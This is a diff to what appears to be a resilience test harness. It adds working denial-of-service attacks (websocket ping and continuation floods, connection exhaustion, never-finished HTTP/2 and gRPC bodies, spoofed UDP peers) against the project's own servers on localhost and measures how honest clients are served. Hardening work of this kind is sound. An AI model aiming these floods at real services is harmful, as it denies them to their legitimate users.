@@ -353,6 +353,321 @@ def attack_create_flood(bin_dir):
             f"summary of {len(reply) / 1e6:.2f} MB; health check {served}")
 
 
+# --- Issue 25: the second round -------------------------------------------------------
+
+WS_UPGRADE = (b"GET /ws/echo HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: upgrade\r\n"
+              b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
+
+
+def ws_frame(opcode, payload=b"", fin=True):
+    """A client frame (masked with a zero key, which masks nothing)."""
+    head = bytes([(0x80 if fin else 0) | opcode])
+    if len(payload) < 126:
+        head += bytes([0x80 | len(payload)])
+    else:
+        head += bytes([0x80 | 126]) + struct.pack(">H", len(payload))
+    return head + b"\0\0\0\0" + payload
+
+
+def ws_upgrade(port, source="127.0.0.1", rcvbuf=None):
+    s = socket.socket()
+    if rcvbuf:
+        # Before connecting, so the window it advertises stays small.
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
+    s.settimeout(5)
+    s.bind((source, 0))
+    s.connect(("127.0.0.1", port))
+    s.sendall(WS_UPGRADE)
+    head = b""
+    while b"\r\n\r\n" not in head:
+        chunk = s.recv(4096)
+        if not chunk:
+            raise OSError("closed during the upgrade")
+        head += chunk
+    return s
+
+
+def honest_ws_ms(port, source="127.0.0.2"):
+    """Milliseconds for an echo on a fresh upgraded connection, or None."""
+    start = time.time()
+    try:
+        s = ws_upgrade(port, source)
+        s.sendall(ws_frame(1, b'{"message":"hi"}'))
+        s.settimeout(5)
+        reply = s.recv(4096)
+        s.close()
+        return (time.time() - start) * 1000 if b"HI" in reply else None
+    except OSError:
+        return None
+
+
+def latency(samples):
+    ok = sorted(v for v in samples if v is not None)
+    if not ok:
+        return "never served"
+    return f"p50 {ok[len(ok) // 2]:.1f} ms ({len(ok)}/{len(samples)} served)"
+
+
+def ws_server(bin_dir):
+    return Server(bin_dir, "ws-server", [("--idle-timeout", str(IDLE))])
+
+
+def flood_thread(target):
+    stop = threading.Event()
+    thread = threading.Thread(target=target, args=(stop,), daemon=True)
+    thread.start()
+    return stop, thread
+
+
+def attack_ws_ping_flood(bin_dir):
+    server = ws_server(bin_dir)
+    baseline = latency([honest_ws_ms(server.port) for _ in range(5)])
+    s = ws_upgrade(server.port, rcvbuf=4096)
+    batch = ws_frame(9, b"p" * 125) * 512
+
+    def flood(stop):
+        while not stop.is_set():
+            try:
+                s.sendall(batch)
+            except OSError:
+                return
+
+    stop, thread = flood_thread(flood)
+    samples = []
+    for _ in range(10):
+        server.watch(0.3)
+        samples.append(honest_ws_ms(server.port))
+    stop.set()
+    s.close()
+    return (server, "ws: ping flood, pongs never read (3 s)",
+            f"honest echo {baseline} before, {latency(samples)} during")
+
+
+def attack_ws_continuations(bin_dir):
+    server = ws_server(bin_dir)
+    baseline = latency([honest_ws_ms(server.port) for _ in range(5)])
+    s = ws_upgrade(server.port)
+    s.sendall(ws_frame(1, b"a", fin=False))
+    batch = ws_frame(0, b"", fin=False) * 10_000
+    closed = {}
+    started = time.time()
+
+    def flood(stop):
+        while not stop.is_set():
+            try:
+                s.sendall(batch)
+            except OSError:
+                closed["after"] = time.time() - started
+                return
+
+    stop, thread = flood_thread(flood)
+    samples = []
+    while time.time() - started < IDLE + 5 and "after" not in closed:
+        server.watch(0.3)
+        samples.append(honest_ws_ms(server.port))
+    stop.set()
+    s.close()
+    when = f"closed after {closed['after']:.1f} s" if "after" in closed else f"still open after {IDLE + 5} s"
+    return (server, f"ws: one message of endless empty continuation frames (idle timeout {IDLE} s)",
+            f"{when}; honest echo {baseline} before, {latency(samples)} during")
+
+
+def attack_ws_idle_upgrades(bin_dir):
+    server = ws_server(bin_dir)
+    socks = []
+    for _ in range(8_000):
+        try:
+            socks.append(ws_upgrade(server.port))
+        except OSError:
+            break
+    server.watch(1)
+    per = (server.peak - server.before) * 1024 / max(len(socks), 1)
+    served = latency([honest_ws_ms(server.port)])
+    for s in socks:
+        s.close()
+    return (server, "ws: one address opens 8,000 upgraded connections and says nothing",
+            f"{len(socks)} upgraded ({per:.0f} KB each); honest client {served}")
+
+
+def attack_socket_one_address(bin_dir):
+    # A cap of 2,000 that 8,000 attacking connections can fill (the open-file limit keeps
+    # this side under 8,192); an honest client from another address waits up to 5 s.
+    server = Server(bin_dir, "socket-server", [("--max-connections", "2000")])
+    socks = []
+    for _ in range(8_000):
+        try:
+            socks.append(socket.create_connection(("127.0.0.1", server.port), timeout=2))
+        except OSError:
+            break
+    server.watch(1)
+    start = time.time()
+    try:
+        s = socket.create_connection(("127.0.0.1", server.port), timeout=5,
+                                     source_address=("127.0.0.2", 0))
+        s.settimeout(5)
+        s.sendall(b'{"message": "hi"}\n')
+        ok = b"HI" in s.recv(4096)
+        s.close()
+        served = f"served in {(time.time() - start) * 1000:.0f} ms" if ok else "refused"
+    except OSError as e:
+        served = f"not served ({e.__class__.__name__})"
+    for s in socks:
+        s.close()
+    return (server, "socket (--max-connections 2000): one address opens 8,000 connections",
+            f"honest client from another address {served}")
+
+
+def incomplete_h2(port, path, grpc_call, connections, streams, declared, seconds):
+    """`connections` x `streams` requests that send most of a `declared`-byte body and
+    never finish it; returns how many streams the server ended within `seconds`."""
+    ended = 0
+    socks = []
+    for _ in range(connections):
+        sock = socket.create_connection(("127.0.0.1", port))
+        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        conn.initiate_connection()
+        sock.sendall(conn.data_to_send())
+        headers = [(":method", "POST"), (":scheme", "http"), (":authority", f"127.0.0.1:{port}"),
+                   (":path", path)]
+        headers += ([("content-type", "application/grpc"), ("te", "trailers")] if grpc_call
+                    else [("content-type", "application/json"), ("content-length", str(declared))])
+        pending = {}
+        for _ in range(streams):
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, headers)
+            prefix = b"\0" + struct.pack(">I", declared) if grpc_call else b""
+            # What is still to send: the prefix, then all of the body but one byte.
+            pending[sid] = [prefix, declared - 1]
+        socks.append((sock, conn, pending))
+    until = time.time() + seconds
+    while time.time() < until:
+        for sock, conn, pending in socks:
+            for sid, rest in list(pending.items()):
+                window = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
+                prefix, left = rest
+                size = min(window, len(prefix) + left)
+                if size <= 0:
+                    continue
+                chunk = (prefix + b" " * max(0, size - len(prefix)))[:size]
+                try:
+                    conn.send_data(sid, chunk)
+                except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
+                    pending.pop(sid)
+                    continue
+                used = min(size, len(prefix))
+                rest[0] = prefix[used:]
+                rest[1] = left - (size - used)
+            try:
+                sock.sendall(conn.data_to_send())
+                sock.settimeout(0.05)
+                data = sock.recv(65536)
+            except socket.timeout:
+                continue
+            except OSError:
+                break
+            if not data:
+                continue
+            for event in conn.receive_data(data):
+                if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded,
+                                      h2.events.ResponseReceived)) and event.stream_id in pending:
+                    if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
+                        pending.pop(event.stream_id, None)
+                        ended += 1
+            sock.sendall(conn.data_to_send())
+    for sock, _, _ in socks:
+        sock.close()
+    return ended
+
+
+def attack_grpc_incomplete(bin_dir):
+    server = Server(bin_dir, "grpc-server", [("--idle-timeout", str(IDLE))])
+    done = {}
+
+    def run(stop):
+        done["ended"] = incomplete_h2(server.port, "/users.v1.UserService/CreateUser", True,
+                                      3, 100, 4 * 1024 * 1024 - 1, IDLE + 4)
+
+    stop, thread = flood_thread(run)
+    samples = []
+    while thread.is_alive():
+        server.watch(0.5)
+        start = time.time()
+        samples.append((time.time() - start) * 1000 if honest_grpc(server.port) == "served" else None)
+    return (server, "gRPC: 3 connections x 100 CreateUser streams, each 4 MiB - 1 into a 4 MiB message, never finished",
+            f"{done.get('ended', 0)} of 300 streams ended within {IDLE + 4} s; honest health check {latency(samples)}")
+
+
+def attack_rest_incomplete(bin_dir):
+    server = Server(bin_dir, "rest-server", [("--idle-timeout", str(IDLE))])
+    done = {}
+
+    def run(stop):
+        done["ended"] = incomplete_h2(server.port, "/api/users", False, 4, 100, 1024 * 1024 - 1, IDLE + 4)
+
+    stop, thread = flood_thread(run)
+    samples = []
+    while thread.is_alive():
+        server.watch(0.5)
+        start = time.time()
+        samples.append((time.time() - start) * 1000 if honest_rest(server.port) == "served" else None)
+    return (server, "REST h2c: 4 connections x 100 POST bodies, each 1 MiB - 1 of 1 MiB, never finished",
+            f"{done.get('ended', 0)} of 400 streams ended within {IDLE + 4} s; honest /health {latency(samples)}")
+
+
+class UdpChat:
+    """A udp-chat participant reading from a pipe, its output in a file."""
+
+    def __init__(self, bin_dir):
+        import tempfile
+        self.port = free_port()
+        self.out = tempfile.TemporaryFile()
+        self.proc = subprocess.Popen([f"{bin_dir}/udp-chat", "--addr", f"127.0.0.1:{self.port}",
+                                      "--name", "me"], stdin=subprocess.PIPE,
+                                     stdout=self.out, stderr=subprocess.STDOUT)
+        time.sleep(0.5)
+        self.peak = self.before = rss_mb(self.proc.pid)
+
+    def sample(self):
+        if self.proc.poll() is None:
+            self.peak = max(self.peak, rss_mb(self.proc.pid))
+
+    def output(self):
+        self.out.seek(0)
+        return self.out.read().decode(errors="replace")
+
+    def stop(self):
+        self.proc.kill()
+        self.proc.wait()
+
+
+def udp_datagram(sender, text):
+    import json
+    return json.dumps({"kind": "message", "sender": sender, "text": text,
+                       "timestamp": "2026-12-02T00:00:00.000Z", "seq": 1}).encode()
+
+
+def attack_udp_spoofed_peers(bin_dir):
+    chat = UdpChat(bin_dir)
+
+    def send(source, sender, text):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.bind((source, 0))
+        s.sendto(udp_datagram(sender, text), ("127.0.0.1", chat.port))
+        s.close()
+
+    for i in range(64):
+        send(f"127.0.0.{i + 2}", f"spoof{i}", "x")
+    time.sleep(0.5)
+    for i in range(12):
+        send(f"127.0.1.{i + 1}", f"canary{i}", f"canary-{i}")
+        time.sleep(0.05)
+    time.sleep(1)
+    chat.sample()
+    heard = sum(f"canary-{i}" in chat.output() for i in range(12))
+    return (chat, "udp-chat: 64 source addresses, one datagram each, then 12 newcomers",
+            f"{heard} of 12 newcomers heard")
+
+
 ATTACKS = {
     "grpc-zero-window": attack_grpc_zero_window,
     "grpc-list-zero-window": attack_grpc_list_zero_window,
@@ -362,6 +677,13 @@ ATTACKS = {
     "socket-never-reads": attack_socket_never_reads,
     "chat-never-reads": attack_chat_never_reads,
     "create-flood": attack_create_flood,
+    "ws-ping-flood": attack_ws_ping_flood,
+    "ws-continuations": attack_ws_continuations,
+    "ws-idle-upgrades": attack_ws_idle_upgrades,
+    "socket-one-address": attack_socket_one_address,
+    "grpc-incomplete": attack_grpc_incomplete,
+    "rest-incomplete": attack_rest_incomplete,
+    "udp-spoofed-peers": attack_udp_spoofed_peers,
 }
 
 
